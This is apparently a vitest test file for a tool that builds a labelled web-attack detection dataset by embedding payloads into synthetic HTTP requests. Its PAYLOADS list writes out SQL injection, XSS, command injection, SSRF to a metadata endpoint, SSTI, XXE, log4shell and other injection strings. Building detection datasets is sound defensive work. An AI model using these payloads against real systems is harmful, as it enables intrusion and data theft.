import { describe, expect, it } from 'vitest';
import { BenignGenerator } from '../src/benign/generate-benign.js';
import { learnPathShapes } from '../src/benign/path-shapes.js';
import { decodeChain } from '../src/encodings.js';
import type { PayloadSample } from '../src/payload-sample.js';
import { placeAttack } from '../src/placement.js';
import type { Placement } from '../src/records.js';
import { validateRecord } from '../src/records.js';
import { Rng } from '../src/rng.js';
import type { AttackClass } from '../src/taxonomy.js';
import { percentDecode } from '../src/text/percent.js';
import { fieldAt } from './helpers/field-at.js';

const PAYLOADS: ReadonlyArray<readonly [AttackClass, string]> = [
  ['sqli', "1' OR 'z'='z' -- "],
  ['sqli', 'x UNION SELECT user, pass FROM accounts#'],
  ['xss', '"><svg/onload=prompt(7)>'],
  ['path_traversal', '../../../../etc/hostname'],
  ['cmdi', '127.0.0.1; cat /etc/issue'],
  ['code_injection', '{"__proto__": {"isAdmin": true}}'],
  ['code_injection', 'O:8:"stdClass":1:{s:3:"cmd";s:2:"id";}'],
  ['ssrf', 'http://169.254.169.254/latest/user-data'],
  ['ssti', "{{ cycler.__init__.__globals__.os.popen('hostname').read() }}"],
  ['xxe', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>'],
  ['log4shell', '${jndi:rmi://x.oast.example:1099/obj}'],
  ['nosqli', '{"$gt": ""}'],
  ['nosqli', '[$regex]=^adm'],
  ['ldap_xpath', 'admin)(|(uid=*)'],
  ['crlf', '%0d%0aSet-Cookie: fixture=1'],
  ['crlf', 'line\r\nINFO: forged entry'],
  ['open_redirect', '/%09/attacker.test'],
  ['sqli', "üñï€ode 😀 ' OR 1=1"],
];

function sample(cls: AttackClass, text: string): PayloadSample {
  return { source: 'test', sourceFile: 'inline', text, label: 'attack', attackType: cls, context: 'value' };
}

/** The payload as the application sees it, after the recorded encodings are undone. */
function serverView(p: Placement, wire: string): string {
  const decoded = decodeChain(p.encoding, wire);
  return p.encoding.includes('raw') ? percentDecode(decoded) : decoded;
}

describe('placeAttack', () => {
  const gen = new BenignGenerator(new Rng('placement-test'), learnPathShapes([]));
  const rng = new Rng(99);

  it('puts the payload exactly at the recorded position, recoverable after decoding, in a valid record', () => {
    const sites = new Set<string>();
    const encodings = new Set<string>();
    for (let round = 0; round < 60; round++) {
      for (const [cls, text] of PAYLOADS) {
        const placed = placeAttack(sample(cls, text), gen, rng);
        if (!placed) continue;
        const { record } = placed;
        const p = record.placement as Placement;
        sites.add(placed.site);
        encodings.add(p.encoding.join('+'));
        expect(validateRecord(record)).toEqual([]);
        expect(record.label).toBe('attack');
        expect(record.attack_type).toBe(cls);
        const found = fieldAt(record, p);
        if (p.encoding.includes('json-structure')) {
          if (p.attack_kind === 'value') expect(found).toEqual(JSON.parse(p.payload));
          else expect(found).toBe(p.wire);
          continue;
        }
        expect(found, `${placed.site} ${p.attack_path_hint} in ${record.url} ${record.body ?? ''}`).toBe(
          p.wire,
        );
        const expected = p.encoding.includes('raw') ? percentDecode(p.payload) : p.payload;
        expect(serverView(p, p.wire)).toBe(expected);
      }
    }
    // Every kind of position and several encodings are exercised.
    for (const site of [
      'query',
      'query-name',
      'path',
      'form',
      'json',
      'json-key',
      'cookie',
      'user-agent',
      'referer',
      'x-forwarded-for',
      'custom-header',
      'multipart-field',
      'multipart-filename',
      'xml',
      'graphql-variable',
    ]) {
      expect(sites, site).toContain(site);
    }
    for (const enc of [
      'raw',
      'url',
      'double-url',
      'partial-url',
      '',
      'json-unicode',
      'base64',
      'multipart-quote',
    ])
      expect(encodings, enc).toContain(enc);
  });

  it('keeps scanner URLs as sent and records the attack component', () => {
    const placed = placeAttack(
      { ...sample('sqli', "/shop/list.php?cat=2' or 'a'='a&page=1"), context: 'url' },
      gen,
      rng,
    );
    expect(placed?.record.url).toBe("/shop/list.php?cat=2'%20or%20'a'='a&page=1");
    expect(placed?.record.placement).toMatchObject({
      attack_location: 'query',
      attack_name: 'cat',
      attack_path_hint: 'query.cat',
    });
    expect(fieldAt(placed!.record, placed!.record.placement!)).toBe(placed!.record.placement!.wire);
  });

  it('is deterministic for a seed', () => {
    const run = (): string[] => {
      const g = new BenignGenerator(new Rng(5), learnPathShapes([]));
      const r = new Rng(6);
      return PAYLOADS.map(([cls, text]) => JSON.stringify(placeAttack(sample(cls, text), g, r)?.record));
    };
    expect(run()).toEqual(run());
  });
});
